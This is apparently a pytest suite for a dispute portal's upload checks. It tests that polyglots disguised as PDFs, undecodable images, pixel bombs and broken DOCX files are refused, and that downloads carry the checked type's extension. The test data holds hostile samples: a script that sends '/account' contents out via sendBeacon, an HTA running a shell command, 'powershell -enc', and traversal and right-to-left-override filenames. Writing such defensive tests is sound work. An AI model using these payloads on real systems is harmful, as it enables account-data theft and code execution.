"""Uploads are judged by parsing them, not by their first and last bytes, and every download
carries the extension of the type that was checked, whatever the uploader called the file.

A file that starts with `%PDF-` and ends with `%%EOF` but is an HTML page, an SVG or an
executable must not be stored (it would be downloaded by the other side as `.html`, `.svg`
or `.exe`); a PDF must open and have pages, a DOCX's parts must unpack, an image must decode.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image, ImageFile
from pypdf import PdfWriter
from sqlalchemy import func, select
from werkzeug.http import parse_options_header

from dispute_portal.cases import contents, names
from dispute_portal.cases.models import Document
from dispute_portal.workflow.states import CaseState

from .conftest import browser_for
from .factories import docx_bytes, jpeg_bytes, pdf_bytes, png_bytes
from .test_proceedings_views import add_respondent, file_through_the_page
from .test_uploads_hardening import _documents, _draft, _files, _upload

BAD_PDF = "This PDF file was refused: it is damaged, has no pages or is not a PDF."
PDF_LOCKED = "This PDF file is protected by a password."
PDF_TOO_BIG = "This PDF file was refused: it has more than"
BAD_IMAGE = "This image was refused: it is damaged or it is not a PNG or JPEG image."
IMAGE_TOO_BIG = "This image was refused: it has more than 40 million pixels."
BAD_DOCX = "This DOCX file was refused"


def _refused_beside_the_file(response, message: str) -> None:
    """400, and the reason is the file field's own error (beside it), not a page banner."""
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    start = page.index('id="file-error"')
    assert message in page[start : page.index("</p>", start)]


def _refused(factory, session, login_as, upload_dir, data: bytes, name: str, message: str):
    browser, case = _draft(factory, session, login_as)
    before = _files(upload_dir)
    _refused_beside_the_file(_upload(browser, case, data, name), message)
    assert _files(upload_dir) == before  # no file, not even a temporary one
    assert _documents(session, case) == 0  # and no row


# --- PDF: it must open and have pages ----------------------------------------------------

SCRIPT = b"<script>fetch('/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))"
POLYGLOTS = {
    "html": (b"%PDF-1.4\n<html><body>" + SCRIPT + b"</script></body></html>\n%%EOF\n", "R-2.html"),
    "hta": (
        b"%PDF-1.7\r\n<HTA:APPLICATION ID='x'><script language='VBScript'>"
        b'CreateObject("WScript.Shell").Run "calc"</script>\r\n%%EOF',
        "Exhibit R-2.hta",
    ),
    "svg": (
        b"%PDF-1.5\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"
        + SCRIPT
        + b"</script></svg>\n%%EOF\n",
        "Exhibit R-2.svg",
    ),
    "bat": (b"%PDF-1.4\r\n@echo off\r\npowershell -enc AAAA\r\n%%EOF\r\n", "Exhibit R-2.bat"),
    "exe": (
        b"%PDF-1.4\nMZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 46
        + b"PE\x00\x00L\x01"
        + bytes(range(256)) * 8
        + b"\n%%EOF",
        "Exhibit R-2.exe",
    ),
    # a trailer and a startxref that point at nothing: still no document
    "html_with_a_trailer": (
        b"%PDF-1.4\n<html>" + SCRIPT + b"</script></html>\ntrailer<</Root 1 0 R>>\n"
        b"startxref\n9\n%%EOF\n",
        "Exhibit R-2.html",
    ),
}


@pytest.mark.parametrize("kind", sorted(POLYGLOTS))
def test_a_polyglot_dressed_as_a_pdf_is_refused(kind, factory, session, login_as, upload_dir):
    data, name = POLYGLOTS[kind]
    assert data.startswith(b"%PDF-") and b"%%EOF" in data[-2048:]  # what passed before
    _refused(factory, session, login_as, upload_dir, data, name, BAD_PDF)


def _cut(data: bytes) -> bytes:
    return data[: len(data) // 2] + b"\n%%EOF\n"


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (pdf_bytes(pages=0), "a well-formed PDF without pages"),
        (_cut(pdf_bytes()), "a PDF cut in the middle"),
        (pdf_bytes().replace(b"/Type/Pages", b"/Type/Xxxxx"), "a page tree that is not one"),
        (b"%PDF-1.4\n" + b"\x00" * 4000 + b"\n%%EOF\n", "zeros"),
    ],
)
def test_a_damaged_pdf_or_one_without_pages_is_refused(
    data, why, factory, session, login_as, upload_dir
):
    _refused(factory, session, login_as, upload_dir, data, "claim.pdf", BAD_PDF)


def _encrypted(user_password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def test_a_pdf_locked_with_a_password_is_refused(factory, session, login_as, upload_dir):
    _refused(factory, session, login_as, upload_dir, _encrypted("secret"), "c.pdf", PDF_LOCKED)


def test_a_pdf_that_opens_without_a_password_is_accepted(factory, session, login_as):
    browser, case = _draft(factory, session, login_as)
    assert _upload(browser, case, _encrypted(""), "restricted.pdf").status_code == 302


def test_a_pdf_with_more_pages_than_the_limit_is_refused(
    app, monkeypatch, factory, session, login_as, upload_dir
):
    monkeypatch.setitem(app.config, "PDF_MAX_PAGES", 3)
    browser, case = _draft(factory, session, login_as)
    assert _upload(browser, case, pdf_bytes(pages=3), "three.pdf").status_code == 302
    _refused(factory, session, login_as, upload_dir, pdf_bytes(pages=4), "four.pdf", PDF_TOO_BIG)


def test_reading_a_pdf_stops_at_the_time_limit(app, monkeypatch, factory, session, login_as):
    """The limit is checked on every read of the file, whatever the parser is doing: with no
    time at all, even a good PDF is refused (and nothing is kept)."""
    monkeypatch.setitem(app.config, "PDF_CHECK_SECONDS", 0)
    browser, case = _draft(factory, session, login_as)
    _refused_beside_the_file(_upload(browser, case, pdf_bytes(), "claim.pdf"), PDF_TOO_BIG)
    assert _documents(session, case) == 0


# --- images: they must decode ------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def _png(width: int, height: int, pixels: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


def _bad_crc(data: bytes) -> bytes:
    at = data.index(b"IDAT") + 4
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


@pytest.mark.parametrize(
    ("data", "name", "why"),
    [
        (_png(1, 1, b"<html><script>alert(1)</script>"), "x.png", "an IDAT that is not zlib"),
        (_png(64, 64, zlib.compress(b"\x00" * 10)), "x.png", "too few pixels for its size"),
        (_bad_crc(png_bytes()), "x.png", "a chunk with a wrong checksum"),
        (png_bytes()[:-12], "x.png", "no end chunk"),
        (png_bytes()[:30], "x.png", "cut after the header"),
        (jpeg_bytes()[: len(jpeg_bytes()) // 2], "x.jpg", "a JPEG cut in half"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "x.jpg", "a JPEG header, no image"),
        (b"\xff\xd8\xff<html><script>alert(1)</script></html>", "x.jpg", "HTML behind FF D8 FF"),
    ],
)
def test_an_image_that_does_not_decode_is_refused(
    data, name, why, factory, session, login_as, upload_dir
):
    _refused(factory, session, login_as, upload_dir, data, name, BAD_IMAGE)


def _jpeg(width: int, height: int) -> bytes:
    buf = io.BytesIO()
    Image.effect_noise((width, height), 40).convert("RGB").save(buf, "JPEG", quality=80)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("data", "name"),
    [(png_bytes(), "a.png"), (jpeg_bytes(), "b.jpg"), (_jpeg(801, 603), "c.jpg")],
    ids=["png", "small_jpeg", "larger_jpeg"],
)
def test_an_image_that_decodes_is_accepted(data, name, factory, session, login_as):
    browser, case = _draft(factory, session, login_as)
    assert _upload(browser, case, data, name).status_code == 302


@pytest.mark.parametrize("data", [png_bytes()[:-12], jpeg_bytes()[:-40]], ids=["png", "jpeg"])
def test_a_cut_image_is_refused_after_weasyprint_told_pillow_to_accept_it(
    data, monkeypatch, tmp_path
):
    """Importing WeasyPrint sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process (it is
    set as WeasyPrint sets it here); the check does not follow it, and leaves it as it was."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    path = tmp_path / "cut"
    path.write_bytes(data)
    with pytest.raises(contents.UploadRejected) as refused:
        contents.check_image(path, {}, "PNG" if data.startswith(b"\x89PNG") else "JPEG")
    assert refused.value.message == contents.BAD_IMAGE
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True


@pytest.mark.parametrize(
    ("width", "height"), [(8000, 5001), (100_000, 100_000)], ids=["over_ours", "over_pillows"]
)
def test_an_image_with_too_many_pixels_is_refused_undecoded(
    width, height, factory, session, login_as, upload_dir
):
    # A few hundred bytes that would unpack to 120 MB and to 30 GB.
    data = _png(width, height, zlib.compress(b"\x00" * 1000))
    _refused(factory, session, login_as, upload_dir, data, "map.png", IMAGE_TOO_BIG)


def test_the_image_limit_comes_from_the_configuration(tmp_path):
    path = tmp_path / "a.png"
    path.write_bytes(_png(10, 10, zlib.compress(b"\x00" + b"\x00\x00\x00" * 10) * 1))
    with pytest.raises(contents.UploadRejected):
        contents.check_image(path, {"IMAGE_MAX_PIXELS": 99})
    path.write_bytes(_png(10, 10, zlib.compress((b"\x00" + b"\x80" * 30) * 10)))
    contents.check_image(path, {"IMAGE_MAX_PIXELS": 100})


# --- DOCX: the parts must unpack ---------------------------------------------------------


def _stored_docx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    return buf.getvalue()


def _no_local_header(data: bytes) -> bytes:
    """The central directory names word/document.xml; where it points there is no part."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        at = zf.getinfo("word/document.xml").header_offset
    return data[:at] + b"<html>" + data[at + 6 :]


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (_stored_docx().replace(b"<w:document/>", b"<script>x</>"), "a part with a wrong CRC"),
        (_no_local_header(docx_bytes()), "a directory that points at no part"),
    ],
)
def test_a_docx_whose_parts_do_not_unpack_is_refused(
    data, why, factory, session, login_as, upload_dir
):
    _refused(factory, session, login_as, upload_dir, data, "claim.docx", BAD_DOCX)


# --- the name a download carries: the checked type's extension ---------------------------


@pytest.mark.parametrize(
    ("given", "content_type", "name"),
    [
        ("Exhibit R-2.html", names.PDF, "Exhibit R-2.pdf"),
        ("Exhibit R-2.hta", names.DOCX, "Exhibit R-2.docx"),
        ("Exhibit R-2.svg", names.PNG, "Exhibit R-2.png"),
        ("Exhibit R-2.BAT", names.JPEG, "Exhibit R-2.jpg"),
        ("photo.jpeg", names.JPEG, "photo.jpg"),
        ("CLAIM.PDF", names.PDF, "CLAIM.pdf"),
        ("claim.pdf.exe", names.PDF, "claim.pdf"),
        ("Statement 1.2", names.PDF, "Statement 1.2.pdf"),
        ("no-extension", names.DOCX, "no-extension.docx"),
        ("Отчёт.пдф", names.PDF, "Отчёт.пдф.pdf"),
        ("../../CON.html", names.PDF, "_CON.pdf"),
        ("evil\u202egpj.exe", names.PNG, "evilgpj.png"),
        ("", names.PDF, "document.pdf"),
        (".html", names.PDF, "html.pdf"),
        ("x" * 300 + ".a", names.DOCX, "x" * 250 + ".docx"),
    ],
)
def test_a_documents_name_ends_in_its_checked_type(given, content_type, name):
    assert names.document_name(given, content_type) == name


def _download(browser, document: Document):
    response = browser.get(f"/cases/{document.case_id}/documents/{document.id}")
    assert response.status_code == 200
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    kind, params = parse_options_header(response.headers["Content-Disposition"])
    assert kind == "attachment"
    return response, params["filename"]


def test_the_other_side_downloads_an_upload_named_html_as_a_pdf(app, factory, session):
    case = factory.case(CaseState.REGISTERED)
    respondent = add_respondent(factory, case)
    session.commit()
    claimant = browser_for(app, case.claimant_user)
    data = pdf_bytes("Exhibit R-2")
    response = file_through_the_page(claimant, case, [(data, "Exhibit R-2.html", "parties")])
    assert response.status_code == 302
    session.expire_all()
    document = session.scalars(
        select(Document).where(Document.case_id == case.id).order_by(Document.id.desc())
    ).first()
    assert document.original_name == "Exhibit R-2.pdf"
    assert document.stored_name.endswith(".pdf")
    response, name = _download(browser_for(app, respondent), document)
    assert name == "Exhibit R-2.pdf" and response.mimetype == "application/pdf"
    assert response.data == data
    page = browser_for(app, respondent).get(f"/cases/{case.id}").get_data(as_text=True)
    assert "Exhibit R-2.pdf" in page and "Exhibit R-2.html" not in page


@pytest.mark.parametrize(
    ("data", "content_type", "stored_as", "served_as"),
    [
        (pdf_bytes(), "application/pdf", "Exhibit R-2.html", "Exhibit R-2.pdf"),
        (png_bytes(), "image/png", "site.svg", "site.png"),
        (docx_bytes(), names.DOCX, "brief.exe", "brief.docx"),
    ],
)
def test_a_document_stored_before_with_a_wrong_extension_downloads_with_the_right_one(
    data, content_type, stored_as, served_as, factory, session, login_as
):
    """Rows written before names followed the type: the download takes the stored checked
    type, not the stored name."""
    browser, investor = login_as("investor")
    case = factory.case(CaseState.DRAFT, claimant=investor, complete=False)
    document = factory.add_document(case, data)
    document.original_name = stored_as  # what the portal used to keep
    session.commit()
    response, name = _download(browser, document)
    assert name == served_as and response.mimetype == content_type
    page = browser.get(f"/cases/{case.id}/documents").get_data(as_text=True)
    assert served_as in page and stored_as not in page


def test_a_refused_upload_in_a_submission_is_shown_beside_its_file(app, factory, session):
    case = factory.case(CaseState.REGISTERED)
    session.commit()
    claimant = browser_for(app, case.claimant_user)
    count = session.scalar(select(func.count()).where(Document.case_id == case.id))
    response = file_through_the_page(
        claimant,
        case,
        [(pdf_bytes(), "good.pdf", "parties"), (POLYGLOTS["svg"][0], "bad.svg", "parties")],
    )
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    start = page.index('id="file_2-error"')
    assert BAD_PDF in page[start : page.index("</p>", start)]
    assert session.scalar(select(func.count()).where(Document.case_id == case.id)) == count
